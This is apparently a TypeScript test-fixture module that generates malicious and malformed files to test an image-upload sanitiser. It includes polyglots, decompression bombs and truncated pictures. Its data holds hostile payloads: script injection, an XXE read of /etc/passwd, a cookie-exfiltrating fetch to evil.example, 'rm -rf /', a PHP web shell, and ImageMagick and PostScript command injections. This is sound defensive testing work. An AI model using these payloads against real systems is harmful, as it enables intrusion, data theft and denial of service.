import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { drawPicture } from '#seed/sample-picture.ts'

export interface MaliciousFile {
  name: string
  bytes: Buffer
  /** Whether the file may be accepted as a cleaned picture. All others must be refused. */
  mayPass: boolean
}

const HTML = '<!doctype html><script>alert(document.domain)</script>'
const SVG =
  '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="9" height="9"/></svg>'

/** Creates a hundred malicious or broken files, the same ones in every run. */
export async function createMaliciousFiles(): Promise<MaliciousFile[]> {
  const jpeg = await drawPicture({ width: 400, height: 300 })
  const png = await drawPicture({ width: 400, height: 300, format: 'png' })
  const webp = await drawPicture({ width: 400, height: 300, format: 'webp' })
  const avif = await drawPicture({ width: 400, height: 300, format: 'avif' })
  return [
    ...nonPictures(),
    ...disguises(),
    ...polyglots(jpeg, png, webp),
    ...bombs(jpeg),
    ...truncated({ jpeg, png, webp, avif }),
    ...corrupted({ jpeg, png, webp, avif }),
    ...(await oddPictures()),
    ...(await corruptedMetadata(jpeg)),
  ]
}

const refused = (name: string, bytes: Buffer | string): MaliciousFile => ({
  name,
  bytes: Buffer.from(bytes as Buffer),
  mayPass: false,
})
const cleaned = (name: string, bytes: Buffer): MaliciousFile => ({ name, bytes, mayPass: true })

/** Pseudorandom bytes, the same in every run. */
function randomBytes(seed: string, length: number): Buffer {
  const blocks = Array.from({ length: Math.ceil(length / 32) }, (_, n) =>
    createHash('sha256').update(`${seed} ${n}`).digest(),
  )
  return Buffer.concat(blocks).subarray(0, length)
}

function nonPictures(): MaliciousFile[] {
  const zip = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), randomBytes('zip', 500)])
  return [
    refused('empty', ''),
    refused('one byte', 'x'),
    refused('one zero', Buffer.alloc(1)),
    refused('a thousand zeros', Buffer.alloc(1_000)),
    refused('random bytes', randomBytes('plain', 50_000)),
    refused('html', HTML),
    refused('svg', SVG),
    refused(
      'svg with a declaration',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${SVG}`,
    ),
    refused('svg with a million laughs', `<!DOCTYPE svg [<!ENTITY a "${'ha'.repeat(5_000)}">]>${SVG}`),
    refused('svgz', Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]), deflateRawSync(SVG)])),
    refused('javascript', 'fetch("//evil.example/"+document.cookie)'),
    refused('pdf', '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
    refused('zip', zip),
    refused('windows program', Buffer.concat([Buffer.from('MZ'), randomBytes('exe', 4_000)])),
    refused(
      'linux program',
      Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), randomBytes('elf', 4_000)]),
    ),
    refused('shell script', '#!/bin/sh\nrm -rf /\n'),
    refused('php', '<?php system($_GET["c"]); ?>'),
    refused(
      'imagemagick script',
      'push graphic-context\nfill "url(https://evil.example/|id)"\npop graphic-context',
    ),
    refused('postscript', '%!PS-Adobe-3.0 EPSF-3.0\n(%pipe%id) (r) file'),
    refused('tiff, little end first', Buffer.concat([Buffer.from('II*\0'), randomBytes('tiff', 800)])),
    refused('tiff, big end first', Buffer.concat([Buffer.from('MM\0*'), randomBytes('tiff 2', 800)])),
    refused('bmp', Buffer.concat([Buffer.from('BM'), randomBytes('bmp', 800)])),
    refused('icon', Buffer.concat([Buffer.from([0, 0, 1, 0, 1, 0]), randomBytes('ico', 800)])),
    refused('photoshop', Buffer.concat([Buffer.from('8BPS\0\x01', 'latin1'), randomBytes('psd', 800)])),
    refused('portable bitmap', 'P6 50000 50000 255\n'),
    refused('radiance', '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 50000 +X 50000\n'),
    refused('fits', 'SIMPLE  =                    T'.padEnd(2_880)),
    refused('vips', Buffer.concat([Buffer.from([0x08, 0xf2, 0xa6, 0xb6]), randomBytes('vips', 800)])),
    refused('matlab', 'MATLAB 5.0 MAT-file'.padEnd(512)),
    refused(
      'jpeg 2000',
      Buffer.concat([Buffer.from('\0\0\0\x0cjP  \r\n\x87\n', 'latin1'), randomBytes('jp2', 800)]),
    ),
    refused('jpeg xl', Buffer.concat([Buffer.from([0xff, 0x0a]), randomBytes('jxl', 800)])),
    refused(
      'video',
      Buffer.concat([Buffer.from('\0\0\0\x18ftypmp42\0\0\0\0mp42isom', 'latin1'), randomBytes('mp4', 800)]),
    ),
  ]
}

const MAGIC = {
  jpeg: [0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0],
  png: [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
  webp: [...Buffer.from('RIFF\x10\x27\0\0WEBPVP8 ', 'latin1')],
  avif: [...Buffer.from('\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf', 'latin1')],
  heic: [...Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1')],
} as const

/** Files that start like a picture and continue as something else. */
function disguises(): MaliciousFile[] {
  return Object.entries(MAGIC).flatMap(([kind, magic]) => [
    refused(`${kind}: only its first bytes`, Buffer.from(magic)),
    refused(
      `${kind}: random bytes after its first bytes`,
      Buffer.from([...magic, ...randomBytes(kind, 20_000)]),
    ),
    refused(`${kind}: html after its first bytes`, Buffer.from([...magic, ...Buffer.from(HTML)])),
  ])
}

/** Pictures that are also valid as another format. Cleaning must leave only the picture. */
function polyglots(jpeg: Buffer, png: Buffer, webp: Buffer): MaliciousFile[] {
  const zipEnd = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])
  return [
    cleaned('jpeg and html', Buffer.concat([jpeg, Buffer.from(HTML)])),
    cleaned('jpeg and zip', Buffer.concat([jpeg, zipEnd])),
    cleaned('jpeg with a script as its comment', withSegment(jpeg, 0xfe, Buffer.from(HTML))),
    cleaned('jpeg with php in its comment', withSegment(jpeg, 0xfe, Buffer.from('<?php phpinfo(); ?>'))),
    cleaned('png and javascript', Buffer.concat([png, Buffer.from('/**/alert(1)')])),
    cleaned('png with html as text', withChunk(png, 'tEXt', Buffer.from(`Comment\0${HTML}`))),
    cleaned('png with an unknown chunk', withChunk(png, 'evIl', Buffer.from(SVG))),
    cleaned('webp and pdf', Buffer.concat([webp, Buffer.from('%PDF-1.7')])),
    refused('gif and javascript', 'GIF89a/*\x00\x00*/=1;alert(1)//;'),
  ]
}

/** Decompression bombs: small files that claim to be or become very large pictures. */
function bombs(jpeg: Buffer): MaliciousFile[] {
  const wide = (width: number, height: number) => {
    const row = deflateSync(Buffer.alloc(4_000_000))
    return pngOf(width, height, 8, 2, row)
  }
  const huge = Buffer.from(jpeg)
  const frame = huge.indexOf(Buffer.from([0xff, 0xc0]))
  huge.writeUInt16BE(50_000, frame + 5)
  huge.writeUInt16BE(50_000, frame + 7)
  return [
    refused('png that claims 50,000 × 50,000', wide(50_000, 50_000)),
    refused('png that claims 2,147,483,647 × 1', wide(2_147_483_647, 1)),
    refused('png that claims 0 × 0', wide(0, 0)),
    refused('jpeg that claims 50,000 × 50,000', huge),
    refused(
      'png of 10,000 × 10,000 in few bytes',
      pngOf(10_000, 10_000, 1, 0, deflateSync(Buffer.alloc(12_510_000))),
    ),
    refused('png just above 40 megapixels', pngOf(8_001, 5_000, 1, 0, deflateSync(Buffer.alloc(5_010_000)))),
    refused(
      'png whose text unpacks to 50 MB',
      withChunk(
        pngOf(8, 8, 8, 2, Buffer.from('none')),
        'zTXt',
        Buffer.concat([Buffer.from('Comment\0\0', 'latin1'), deflateSync(Buffer.alloc(50_000_000))]),
      ),
    ),
    cleaned(
      'png whose profile unpacks to 50 MB',
      withChunk(
        pngOf(8, 8, 8, 2, deflateSync(Buffer.alloc(8 * 25))),
        'iCCP',
        Buffer.concat([Buffer.from('icc\0\0', 'latin1'), deflateSync(Buffer.alloc(50_000_000))]),
      ),
    ),
    // No decoder finishes these within the time limit.
    cleaned(
      'png of 40 megapixels in 64 bits each',
      pngOf(8_000, 5_000, 16, 6, deflatedZeros(5_000 * 64_001)),
    ),
    cleaned('avif of 40 megapixels in few bytes', readFileSync(`${import.meta.dirname}/40-megapixels.avif`)),
    cleaned(
      'png of 6,000 × 6,000 in few bytes',
      pngOf(6_000, 6_000, 1, 0, deflateSync(Buffer.alloc(4_506_000))),
    ),
  ]
}

function truncated(pictures: Record<string, Buffer>): MaliciousFile[] {
  const places = [0.1, 0.5, 0.9]
  return Object.entries(pictures).flatMap(([kind, bytes]) =>
    places.map((place) =>
      refused(`${kind} cut off at ${place * 100}%`, bytes.subarray(0, Math.floor(bytes.length * place))),
    ),
  )
}

/** Pictures with some bytes replaced, which decoders may accept or not. */
function corrupted(pictures: Record<string, Buffer>): MaliciousFile[] {
  return Object.entries(pictures).flatMap(([kind, bytes]) =>
    [0.05, 0.4].map((place) => {
      const copy = Buffer.from(bytes)
      randomBytes(`${kind} ${place}`, 40).copy(copy, Math.floor(bytes.length * place))
      return cleaned(`${kind} with random bytes at ${place * 100}%`, copy)
    }),
  )
}

async function oddPictures(): Promise<MaliciousFile[]> {
  const create = { width: 64, height: 64, channels: 3 as const, background: '#0a0' }
  const frames = [create, { ...create, background: '#a00' }].map((frame) =>
    sharp({ create: frame }).png().toBuffer(),
  )
  const animated = sharp(await Promise.all(frames), { join: { animated: true } })
  const picture = (width: number, height: number) => sharp({ create: { ...create, width, height } })
  return [
    refused('animated gif', await animated.clone().gif().toBuffer()),
    cleaned('animated webp', await animated.clone().webp().toBuffer()),
    refused('valid tiff', await picture(64, 64).tiff().toBuffer()),
    cleaned('1 × 1', await picture(1, 1).png().toBuffer()),
    cleaned('1 × 20,000', await picture(1, 20_000).png().toBuffer()),
    cleaned('20,000 × 1', await picture(20_000, 1).png().toBuffer()),
    cleaned('cmyk jpeg', await picture(64, 64).toColourspace('cmyk').jpeg().toBuffer()),
    cleaned('grey jpeg', await picture(64, 64).greyscale().jpeg().toBuffer()),
    cleaned('png of 16 bits', await picture(64, 64).toColourspace('rgb16').png().toBuffer()),
    cleaned('transparent png', await picture(64, 64).ensureAlpha(0).png().toBuffer()),
    cleaned('png with a palette', await picture(64, 64).png({ palette: true }).toBuffer()),
    cleaned('progressive jpeg', await picture(2_000, 2_000).jpeg({ progressive: true }).toBuffer()),
  ]
}

async function corruptedMetadata(jpeg: Buffer): Promise<MaliciousFile[]> {
  const exif = (bytes: Buffer) => withSegment(jpeg, 0xe1, Buffer.concat([Buffer.from('Exif\0\0'), bytes]))
  const icc = (bytes: Buffer) =>
    withSegment(jpeg, 0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01', 'latin1'), bytes]))
  // An EXIF directory with an entry that points to the directory itself.
  const loop = Buffer.from('49492a000800000001006987040001000000080000000800000000', 'hex')
  const wrongChecksum = Buffer.from(await drawPicture({ width: 64, height: 64, format: 'png' }))
  wrongChecksum.writeUInt32BE(0, 29)
  return [
    cleaned('random exif', exif(randomBytes('exif', 3_000))),
    cleaned('exif of the maximum length', exif(Buffer.alloc(65_500, 'A'))),
    cleaned('exif with a cycle', exif(loop)),
    cleaned('random color profile', icc(randomBytes('icc', 3_000))),
    cleaned('empty color profile', icc(Buffer.alloc(0))),
    cleaned(
      'four hundred comments',
      Array.from({ length: 400 }).reduce<Buffer>(
        (bytes) => withSegment(bytes, 0xfe, Buffer.alloc(10_000)),
        jpeg,
      ),
    ),
    refused('png with a wrong checksum', wrongChecksum),
  ]
}

/** Inserts a segment after the first two bytes of a JPEG. */
export function withSegment(jpeg: Buffer, marker: number, content: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0])
  head.writeUInt16BE(content.length + 2, 2)
  return Buffer.concat([jpeg.subarray(0, 2), head, content, jpeg.subarray(2)])
}

/** Inserts a chunk after the header of a PNG. */
export function withChunk(png: Buffer, type: string, content: Buffer): Buffer {
  return Buffer.concat([png.subarray(0, 33), chunk(type, content), png.subarray(33)])
}

function chunk(type: string, content: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), content])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(content.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}

/** Returns what `deflateSync` makes of this many zeros, without allocating them. */
function deflatedZeros(length: number): Buffer {
  const compress = (zeros: number) =>
    deflateRawSync(Buffer.alloc(zeros), { finishFlush: constants.Z_FULL_FLUSH })
  const million = compress(1_000_000)
  const checksum = Buffer.alloc(4)
  checksum.writeUInt16BE(length % 65_521, 0)
  checksum.writeUInt16BE(1, 2)
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: Math.floor(length / 1_000_000) }, () => million),
    compress(length % 1_000_000),
    Buffer.from([0x03, 0x00]),
    checksum,
  ])
}

function pngOf(width: number, height: number, bits: number, colour: number, compressed: Buffer): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([bits, colour], 8)
  return Buffer.concat([
    Buffer.from(MAGIC.png),
    chunk('IHDR', header),
    chunk('IDAT', compressed),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
